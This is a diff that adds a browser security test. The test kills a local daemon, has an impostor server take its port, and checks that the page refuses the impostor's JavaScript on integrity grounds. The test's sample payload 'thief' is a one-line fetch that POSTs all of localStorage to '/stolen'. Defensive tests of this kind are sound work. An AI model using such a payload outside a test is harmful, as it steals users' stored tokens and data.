@@ -232,6 +232,38 @@ test('a program that takes the port while loopd is away is not sent the key by a
   await context.close()
 })
 
+/** A program in place of loopd that proves nothing, and serves a script of its own for every script of the page. */
+const thief = `fetch('/stolen', { method: 'POST', body: JSON.stringify({ ...localStorage }) })
+export const MachinePage = () => null`
+
+test('code that a program serves in place of loopd does not run in an open tab', { skip }, async () => {
+  const context = await signedIn()
+  const page = await context.newPage()
+  await page.goto('/')
+  await page.getByText('Live').waitFor()
+  const gone = new Promise(resolve => web.daemon.child.once('close', resolve))
+  web.daemon.child.kill('SIGKILL')
+  await gone
+  const heard: string[] = []
+  const impostor = createServer((request, response) => {
+    heard.push(request.url ?? '')
+    if (!request.url?.endsWith('.js')) return response.writeHead(503).end()
+    return response.setHeader('content-type', 'text/javascript').end(thief)
+  })
+  await new Promise<void>(resolve => impostor.listen(Number(new URL(web.origin).port), '127.0.0.1', resolve))
+  const complaints = web.complaints.length
+  // The code of this page is loaded when it is opened.
+  await page.getByRole('link', { name: 'Machine' }).click()
+  await until('the script to be asked for', () => heard.some(url => url.endsWith('.js')))
+  await until('the tab to refuse it', () => web.complaints.length > complaints || heard.includes('/stolen'))
+  impostor.closeAllConnections()
+  await new Promise(resolve => impostor.close(resolve))
+  assert.ok(!heard.includes('/stolen'))
+  assert.match(web.complaints.splice(complaints).join('\n'), /integrity/)
+  web.daemon = await web.rig.startDaemon()
+  await context.close()
+})
+
 test('a browser that signs out has no rights left, in no tab', { skip }, async () => {
   const context = await signedIn()
   const [page, other] = [await context.newPage(), await context.newPage()]
